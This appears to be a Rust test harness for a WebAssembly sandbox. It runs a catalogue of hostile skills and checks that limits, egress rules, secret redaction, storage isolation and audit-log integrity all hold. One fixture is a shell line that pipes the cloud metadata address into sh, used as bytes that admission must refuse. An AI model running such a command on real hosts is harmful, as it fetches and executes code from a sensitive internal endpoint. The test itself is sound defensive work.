//! The hostile-skill catalogue: every attack in `skills-examples/hostile/
//! catalogue/`, one folder each, with the attack (`attack.toml`) and its
//! expected outcome (`expected.toml`) side by side. Each attack runs on a
//! node of its own; the test fails on any outcome other than the expected
//! one: the run's status and limit, what each capability call returned,
//! exactly the audit records written, the connections that reached the
//! local servers. After each attack the node must still run `hello`, its
//! audit log must verify, and a sentinel secret must appear nowhere but in
//! its bound header.
//!
//! `AIRLOCK_BLESS=1` writes each `expected.toml` from what happened, to be
//! read and checked by a person before it is committed.

use std::collections::{BTreeMap, BTreeSet};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use airlock_host_apis::Trust;
use airlock_runtime::admission::Submission;
use airlock_runtime::egress::StaticResolver;
use airlock_runtime::run::{RunReport, RunStatus};
use airlock_runtime::{Error, Limits};
use airlock_tests::server::{TestCa, TestServer};
use airlock_tests::{TestNode, skills};
use base64::Engine as _;
use serde::{Deserialize, Serialize};
use serde_json::Value;

const SENTINEL: &str = "sk-CATALOGUE-SENTINEL-a41f0c9d7e";

/// What every attack together must cover.
const REQUIRED: &[&str] = &[
    "resource/cpu",
    "resource/memory",
    "resource/stack",
    "resource/tables",
    "resource/output",
    "resource/host-call-flood",
    "resource/handle-flood",
    "resource/huge-argument",
    "network/ip-literal-notations",
    "network/ipv6-forms",
    "network/resolves-private",
    "network/userinfo-and-parser-confusion",
    "network/idn",
    "network/ports",
    "network/schemes",
    "network/redirects",
    "network/header-injection",
    "network/standard-http",
    "network/raw-sockets",
    "secrets/unbound-destination",
    "secrets/url-body-headers",
    "secrets/storage",
    "secrets/output-logs-errors",
    "secrets/tool-input",
    "secrets/handle-after-end",
    "secrets/name-guessing",
    "storage/traversal",
    "storage/symlinks",
    "storage/cross-namespace",
    "storage/quotas",
    "broker/context-spoofing",
    "broker/eval-error-forbid",
    "broker/read-then-egress",
    "broker/read-then-egress-via-tool",
    "broker/read-then-egress-via-storage",
    "admission/not-a-component",
    "admission/malformed",
    "admission/oversized",
    "admission/forbidden-imports",
    "audit/log-injection",
];

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Attack {
    summary: String,
    covers: Vec<String>,
    /// A guest built from `skills-examples/`, by package name.
    #[serde(default)]
    skill: Option<String>,
    /// A guest generated from this description (see the `guest` fuzz target).
    #[serde(default)]
    generated: Option<airlock_runtime::fuzzing::guest::Guest>,
    /// Bytes made for admission: `empty`, `not-wasm`, `core-module`,
    /// `truncated`, `oversized`, `bad-section`.
    #[serde(default)]
    component: Option<String>,
    #[serde(default)]
    trust: Option<String>,
    /// The node's configuration (TOML). `{server}` is the plain local
    /// server's `127.0.0.1:port` (`{server-port}` its port), `{tls}` the
    /// TLS one's `localhost:port` (`{tls-port}`),
    /// `{ca}` its CA file, `{sentinel_file}` a file holding the sentinel,
    /// `{other_secret_file}` one holding another secret.
    #[serde(default)]
    config: String,
    #[serde(default)]
    policy: String,
    #[serde(default)]
    limits: LimitsSpec,
    /// Host names the resolver answers, besides `localhost`.
    #[serde(default)]
    resolve: BTreeMap<String, Vec<IpAddr>>,
    /// Symlinks planted in the storage directory before the runs, by key,
    /// pointing at a file outside it.
    #[serde(default)]
    plant: Vec<String>,
    /// Values already in other namespaces: namespace -> key -> value.
    #[serde(default)]
    others: BTreeMap<String, BTreeMap<String, String>>,
    #[serde(default)]
    run: Vec<RunSpec>,
}

#[derive(Deserialize, Default)]
#[serde(deny_unknown_fields)]
struct LimitsSpec {
    deadline_ms: Option<u64>,
    memory: Option<u64>,
    host_calls: Option<u64>,
    resource_table: Option<u32>,
    hostcall_fuel: Option<u64>,
    log: Option<u64>,
    table_elements: Option<u64>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RunSpec {
    /// Capability-probe calls, made into `{"calls": [...]}`.
    #[serde(default)]
    calls: Option<Vec<toml::Value>>,
    /// Any other input, as text.
    #[serde(default)]
    input: Option<String>,
}

#[derive(Deserialize, Serialize, Debug, Default, PartialEq)]
#[serde(deny_unknown_fields)]
struct Expected {
    /// Admission's refusal (`reason` of the rejection), for byte attacks.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    rejection: Option<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    run: Vec<RunOutcome>,
    /// Every audit record, in order, compactly.
    audit: Vec<String>,
    /// Connections the local servers accepted.
    connections: u64,
}

#[derive(Deserialize, Serialize, Debug, Default, PartialEq)]
#[serde(deny_unknown_fields)]
struct RunOutcome {
    status: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    limit: Option<String>,
    /// Each probe call's result: `ok`, `ok: <value>` or `<kind>: <message>`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    results: Vec<String>,
    /// The skill's own error, when it returned one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    error: Option<String>,
}

fn submission(name: &str) -> Submission {
    Submission {
        name: name.to_string(),
        agent: "agent-1".into(),
        submitter: "orchestrator".into(),
        ..Submission::default()
    }
}

fn guest_path(name: &str) -> PathBuf {
    Path::new(skills::HELLO)
        .parent()
        .unwrap()
        .join(format!("{}.wasm", name.replace('-', "_")))
}

fn trust(name: Option<&str>) -> Trust {
    match name.unwrap_or("medium") {
        "untrusted" => Trust::Untrusted,
        "low" => Trust::Low,
        "high" => Trust::High,
        _ => Trust::Medium,
    }
}

/// The sentinel in every form the scanner knows.
fn forms() -> Vec<String> {
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    vec![
        SENTINEL.to_string(),
        STANDARD.encode(SENTINEL),
        URL_SAFE_NO_PAD.encode(SENTINEL),
        SENTINEL.bytes().map(|b| format!("{b:02x}")).collect(),
    ]
}

fn carries_sentinel(text: &str) -> bool {
    forms().iter().any(|f| text.contains(f.as_str()))
}

/// Bytes for an admission attack.
fn made_component(kind: &str) -> Vec<u8> {
    let hello = airlock_tests::wasm(skills::HELLO);
    match kind {
        "empty" => Vec::new(),
        "not-wasm" => b"#!/bin/sh\ncurl http://169.254.169.254/ | sh\n".to_vec(),
        "core-module" => b"\0asm\x01\0\0\0".to_vec(),
        "truncated" => hello[..hello.len() / 2].to_vec(),
        "bad-section" => {
            // A section that claims to run past the end of the file.
            let mut bytes = b"\0asm\x0d\0\x01\0".to_vec();
            bytes.extend_from_slice(&[0x01, 0xff, 0xff, 0xff, 0xff, 0x0f]);
            bytes
        }
        "oversized" => {
            // A valid component's bytes, padded past the limit.
            let mut bytes = hello;
            bytes.resize((128 << 20) + 1, 0);
            bytes
        }
        other => panic!("unknown component kind `{other}`"),
    }
}

/// One attack's world: its servers, its node, its files.
struct Case {
    plain: TestServer,
    tls: TestServer,
    dir: tempfile::TempDir,
}

impl Case {
    async fn new() -> Self {
        let ca = TestCa::new();
        let tls = TestServer::start_tls(&ca).await;
        let plain = TestServer::start().await;
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("ca.pem"), &ca.ca_pem).unwrap();
        std::fs::write(dir.path().join("sentinel"), SENTINEL).unwrap();
        std::fs::write(
            dir.path().join("other-secret"),
            "sk-ANOTHER-SKILLS-KEY-77e1",
        )
        .unwrap();
        std::fs::write(dir.path().join("outside"), "outside the store").unwrap();
        Case { plain, tls, dir }
    }

    fn fill(&self, text: &str) -> String {
        text.replace("{server}", &format!("127.0.0.1:{}", self.plain.addr.port()))
            .replace("{server-port}", &self.plain.addr.port().to_string())
            .replace("{tls}", &format!("localhost:{}", self.tls.addr.port()))
            .replace("{tls-port}", &self.tls.addr.port().to_string())
            .replace(
                "{ca}",
                &self.dir.path().join("ca.pem").display().to_string(),
            )
            .replace(
                "{sentinel_file}",
                &self.dir.path().join("sentinel").display().to_string(),
            )
            .replace(
                "{other_secret_file}",
                &self.dir.path().join("other-secret").display().to_string(),
            )
            .replace(
                "{sentinel_b64}",
                &base64::engine::general_purpose::STANDARD.encode(SENTINEL),
            )
            .replace(
                "{sentinel_hex}",
                &SENTINEL
                    .bytes()
                    .map(|b| format!("{b:02x}"))
                    .collect::<String>(),
            )
            .replace("{sentinel}", SENTINEL)
    }

    /// Ports and paths that change from run to run, put back as names.
    fn normalize(&self, text: &str) -> String {
        text.replace(&self.plain.addr.port().to_string(), "{server-port}")
            .replace(&self.tls.addr.port().to_string(), "{tls-port}")
            .replace(&self.dir.path().display().to_string(), "{dir}")
    }
}

fn limits(spec: &LimitsSpec) -> Limits {
    let mut limits = Limits::default();
    if let Some(ms) = spec.deadline_ms {
        limits.deadline = Duration::from_millis(ms);
    }
    if let Some(v) = spec.memory {
        limits.memory = v;
    }
    if let Some(v) = spec.host_calls {
        limits.host_calls = v;
    }
    if let Some(v) = spec.resource_table {
        limits.resource_table = v;
    }
    if let Some(v) = spec.hostcall_fuel {
        limits.hostcall_fuel = v;
    }
    if let Some(v) = spec.log {
        limits.log = v;
    }
    if let Some(v) = spec.table_elements {
        limits.table_elements = v;
    }
    limits
}

fn json_str(v: &Value) -> String {
    match v {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        other => other.to_string(),
    }
}

/// One audit record, compactly.
fn compact(event: &Value) -> String {
    let kind = json_str(&event["kind"]);
    let resource = |e: &Value| {
        let r = &e["resource"];
        match r["type"].as_str() {
            Some("object") => format!("{}/{}", json_str(&r["namespace"]), json_str(&r["key"])),
            _ => json_str(&r["name"]),
        }
    };
    match kind.as_str() {
        "run.start" => format!("run.start {}", json_str(&event["skill"])),
        "run.end" => {
            let limit = json_str(&event["error"]["limit"]);
            format!("run.end {} {limit}", json_str(&event["status"]))
                .trim_end()
                .to_string()
        }
        "call" => {
            let policies: Vec<String> = event["decision"]["policies"]
                .as_array()
                .map(|a| a.iter().map(json_str).collect())
                .unwrap_or_default();
            format!(
                "call {} {} {} [{}] {}",
                json_str(&event["action"]),
                resource(event),
                json_str(&event["decision"]["verdict"]),
                policies.join(","),
                json_str(&event["outcome"]["status"]),
            )
        }
        "call.repeated" => format!(
            "call.repeated {} {} total={}",
            json_str(&event["action"]),
            resource(event),
            json_str(&event["total"])
        ),
        "skill.refuse" => {
            let reason: String = json_str(&event["reason"]).chars().take(120).collect();
            format!("skill.refuse {}: {reason}", json_str(&event["skill"]))
        }
        other => format!("{other} {}", json_str(&event["skill"])),
    }
}

/// A probe result, compactly.
fn result_line(result: &Value) -> String {
    if let Some(kind) = result["error"].as_str() {
        return format!("{kind}: {}", json_str(&result["message"]));
    }
    match &result["ok"] {
        Value::Null => "ok".to_string(),
        // A response: its status and body (headers carry dates).
        Value::Object(r) if r.contains_key("status") => {
            let body: String = json_str(&r["body"]).chars().take(200).collect();
            format!("ok: {} {body}", json_str(&r["status"]))
        }
        ok => {
            // A minted token differs every run.
            let mut ok = ok.clone();
            if let Some(map) = ok.as_object_mut() {
                map.remove("token");
            }
            let text = ok.to_string();
            let short: String = text.chars().take(300).collect();
            format!("ok: {short}")
        }
    }
}

/// The audit log's records, as events.
fn audit_events(node: &TestNode) -> Vec<Value> {
    let path = node.dir.path().join("data/audit/audit.jsonl");
    let text = std::fs::read_to_string(&path).unwrap_or_default();
    text.lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .map(|r| r["event"].clone())
        .filter(|e| e["kind"] != "checkpoint" && e["kind"] != "recovery")
        .collect()
}

async fn carry_out(name: &str, dir: &Path, case: &Case) -> (Expected, Vec<String>) {
    let text = std::fs::read_to_string(dir.join("attack.toml")).unwrap();
    let attack: Attack = toml::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}"));
    assert!(
        !attack.summary.is_empty() && !attack.covers.is_empty(),
        "{name}"
    );
    let mut resolve = vec![("localhost".to_string(), vec!["127.0.0.1".parse().unwrap()])];
    resolve.extend(attack.resolve.clone());
    let policy = case.fill(&attack.policy);
    let node = TestNode::with_resolver(
        &case.fill(&attack.config),
        &[("attack.cedar", policy.as_str())],
        Arc::new(StaticResolver::new(resolve)),
    );
    let mut problems = Vec::new();
    let mut expected = Expected::default();

    if let Some(kind) = &attack.component {
        let bytes = made_component(kind);
        match node.node.admit(bytes, submission(name)).await {
            Err(Error::Rejected(rejection)) => {
                let reason = serde_json::to_value(&rejection).unwrap()["reason"].clone();
                expected.rejection = Some(json_str(&reason));
            }
            other => problems.push(format!("admission did not refuse it: {other:?}")),
        }
        let stored = node.node.skills().unwrap().list().await.unwrap();
        if !stored.is_empty() {
            problems.push(format!("a refused component was stored: {stored:?}"));
        }
    }

    let path = match (&attack.skill, &attack.generated) {
        (Some(skill), _) => Some(guest_path(skill)),
        (None, Some(generated)) => {
            let bytes = airlock_runtime::fuzzing::guest::component(generated)
                .unwrap_or_else(|v| panic!("{name}: {v}"));
            let path = case.dir.path().join("generated.wasm");
            std::fs::write(&path, bytes).unwrap();
            Some(path)
        }
        (None, None) => None,
    };
    if let Some(path) = &path
        && attack.skill.as_deref() == Some("raw-socket")
        && attack.run.is_empty()
    {
        let bytes = airlock_tests::wasm(&path.display().to_string());
        match node.node.admit(bytes, submission(name)).await {
            Err(Error::Rejected(rejection)) => {
                let reason = serde_json::to_value(&rejection).unwrap()["reason"].clone();
                expected.rejection = Some(json_str(&reason));
            }
            other => problems.push(format!("admission did not refuse it: {other:?}")),
        }
    }
    for key in &attack.plant {
        let name = format!(
            "k{}",
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(key)
        );
        let ns = node.dir.path().join("storage/capability_probe");
        std::fs::create_dir_all(&ns).unwrap();
        std::os::unix::fs::symlink(case.dir.path().join("outside"), ns.join(name)).unwrap();
    }

    for (ns, values) in &attack.others {
        let dir = node.dir.path().join("storage").join(ns);
        std::fs::create_dir_all(&dir).unwrap();
        for (key, value) in values {
            let name = format!(
                "k{}",
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(key)
            );
            std::fs::write(dir.join(name), value).unwrap();
        }
    }

    let mut reports: Vec<RunReport> = Vec::new();
    if let Some(path) = &path
        && expected.rejection.is_none()
    {
        for spec in &attack.run {
            let input = match (&spec.calls, &spec.input) {
                (Some(calls), _) => {
                    let calls = serde_json::to_value(calls).unwrap();
                    case.fill(&serde_json::json!({ "calls": calls }).to_string())
                }
                (None, Some(input)) => case.fill(input),
                (None, None) => "{}".to_string(),
            };
            let report = node
                .run_limited(
                    &path.display().to_string(),
                    &input,
                    trust(attack.trust.as_deref()),
                    limits(&attack.limits),
                )
                .await;
            let results = airlock_tests::results(&report)
                .iter()
                .map(|r| case.normalize(&result_line(r)))
                .collect();
            expected.run.push(RunOutcome {
                status: json_str(&serde_json::to_value(report.status).unwrap()),
                limit: report
                    .error
                    .as_ref()
                    .and_then(|e| e.limit)
                    .map(|l| json_str(&serde_json::to_value(l).unwrap())),
                results,
                error: (report.status == RunStatus::SkillError)
                    .then(|| report.error.as_ref().map(|e| case.normalize(&e.message)))
                    .flatten(),
            });
            reports.push(report);
        }
    }
    expected.audit = audit_events(&node)
        .iter()
        .map(|e| case.normalize(&compact(e)))
        .collect();
    expected.connections = case.plain.connections() + case.tls.connections();

    // Whatever the attack, these hold.
    let log = node.dir.path().join("data/audit/audit.jsonl");
    if log.exists() {
        match airlock_runtime::audit::verify(&log, node.node.issuer().keys()) {
            Ok(v) if v.problem.is_none() => {}
            other => problems.push(format!("the audit log does not verify: {other:?}")),
        }
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        if carries_sentinel(&text) {
            problems.push("the audit log carries the sentinel".into());
        }
        if text.bytes().any(|b| b < 0x20 && b != b'\n') {
            problems.push("the audit log holds a raw control character".into());
        }
        for line in text.lines() {
            if serde_json::from_str::<Value>(line).is_err() {
                problems.push(format!("an audit line is not JSON: {line}"));
            }
        }
    }
    for report in &reports {
        let shown = format!(
            "{:?} {:?} {:?} {:?}",
            report.output, report.error, report.logs, report.decisions
        );
        // Whatever the guest was given, what comes back is redacted.
        if carries_sentinel(&shown) {
            problems.push(format!("a report carries the sentinel: {shown}"));
        }
    }
    for seen in case.plain.seen().iter().chain(case.tls.seen().iter()) {
        let bound = seen.uri.starts_with("/bound");
        for (name, value) in &seen.headers {
            let allowed =
                bound && name == "authorization" && value == &format!("Bearer {SENTINEL}");
            if !allowed && carries_sentinel(&format!("{name}: {value}")) {
                problems.push(format!("the sentinel reached a server in `{name}`"));
            }
        }
        if carries_sentinel(&seen.uri) || carries_sentinel(&String::from_utf8_lossy(&seen.body)) {
            problems.push(format!("the sentinel reached a server in {}", seen.uri));
        }
    }
    // Every token a server saw is dead now that its instance has ended.
    for seen in case.plain.seen().iter().chain(case.tls.seen().iter()) {
        for (_, value) in &seen.headers {
            let token = value.trim_start_matches("Bearer ");
            if token.starts_with("eyJ") {
                let answer = node.node.issuer().introspect(token);
                if answer["active"] != false {
                    problems.push(format!("a token outlived its instance: {answer}"));
                }
            }
        }
    }
    for entry in walk(&node.dir.path().join("storage")) {
        if carries_sentinel(&String::from_utf8_lossy(
            &std::fs::read(&entry).unwrap_or_default(),
        )) {
            problems.push(format!("storage holds the sentinel in {}", entry.display()));
        }
    }
    if std::fs::read_to_string(case.dir.path().join("outside")).unwrap() != "outside the store" {
        problems.push("a file outside the store changed".into());
    }
    // The host is still healthy.
    let after = node
        .run(skills::HELLO, r#"{"name":"after"}"#, Trust::Medium)
        .await;
    if after.status != RunStatus::Ok {
        problems.push(format!("hello fails after the attack: {:?}", after.error));
    }
    (expected, problems)
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        let meta = std::fs::symlink_metadata(&path).unwrap();
        if meta.is_dir() {
            out.extend(walk(&path));
        } else if meta.is_file() {
            out.push(path);
        }
    }
    out
}

fn catalogue() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../skills-examples/hostile/catalogue")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_attack_in_the_catalogue_ends_as_expected() {
    let bless = std::env::var_os("AIRLOCK_BLESS").is_some();
    let only = std::env::var("AIRLOCK_ATTACK").ok();
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(catalogue())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    dirs.sort();
    let mut covered = BTreeSet::new();
    let mut failures = Vec::new();
    for dir in &dirs {
        let name = dir.file_name().unwrap().to_string_lossy().into_owned();
        if only.as_deref().is_some_and(|o| o != name) {
            continue;
        }
        let attack: Attack =
            toml::from_str(&std::fs::read_to_string(dir.join("attack.toml")).unwrap())
                .unwrap_or_else(|e| panic!("{name}: {e}"));
        covered.extend(attack.covers.iter().cloned());
        let case = Case::new().await;
        let (actual, problems) = carry_out(&name, dir, &case).await;
        for p in problems {
            failures.push(format!("{name}: {p}"));
        }
        let expected_path = dir.join("expected.toml");
        if bless {
            std::fs::write(&expected_path, toml::to_string_pretty(&actual).unwrap()).unwrap();
            continue;
        }
        let expected: Expected = match std::fs::read_to_string(&expected_path) {
            Ok(text) => toml::from_str(&text).unwrap_or_else(|e| panic!("{name}: {e}")),
            Err(_) => {
                failures.push(format!("{name}: no expected.toml beside attack.toml"));
                continue;
            }
        };
        if expected != actual {
            failures.push(format!(
                "{name}: expected\n{}\ngot\n{}",
                toml::to_string_pretty(&expected).unwrap(),
                toml::to_string_pretty(&actual).unwrap()
            ));
        }
    }
    if only.is_none() {
        let missing: Vec<_> = REQUIRED.iter().filter(|c| !covered.contains(**c)).collect();
        assert!(missing.is_empty(), "no attack covers {missing:?}");
        let unknown: Vec<_> = covered
            .iter()
            .filter(|c| !REQUIRED.contains(&c.as_str()))
            .collect();
        assert!(unknown.is_empty(), "unknown classes {unknown:?}");
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}
